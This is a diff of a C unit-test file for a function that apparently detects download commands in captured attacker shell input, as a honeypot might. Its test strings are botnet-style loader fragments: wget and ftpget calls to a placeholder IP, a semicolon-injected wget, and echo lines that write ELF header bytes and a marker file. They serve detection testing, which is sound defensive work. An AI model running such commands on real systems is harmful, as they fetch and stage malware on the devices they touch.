@@ -111,8 +111,7 @@ static void what_fetches_nothing_is_no_download(void **state)
         "ftpget 192.0.2.9",
         "curl",
         "echo -ne '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon",
-        "echo -ne "
-        "'\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x61\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00'",
+        "echo -ne '\\x7f\\105\\114\\106\\1\\1\\1\\1\\0\\0\\0\\0\\0\\0\\0\\0'",
         "GET /wget/index.html HTTP/1.1",
         "wget http://",
         "wget http:///x",
@@ -153,12 +152,12 @@ static void number_and_length_are_bounded(void **state)
 
     memset(text, 'x', sizeof text - 1);
     memcpy(text, "wget http://192.0.2.9/", 22);
-    strcpy(text + 4000, ";wget http://192.0.2.9/y");
+    memcpy(text + 4000, ";wget http://192.0.2.9/y", 25);
     assert_int_equal(find(text, d), 1);
     assert_string_equal(d[0].file, "y");
 
     memset(text, ' ', sizeof text - 1);
-    strcpy(text + DOWNLOAD_TEXT_BYTES, "wget http://192.0.2.9/y");
+    memcpy(text + DOWNLOAD_TEXT_BYTES, "wget http://192.0.2.9/y", 24);
     assert_int_equal(find(text, d), 0);
 }
 
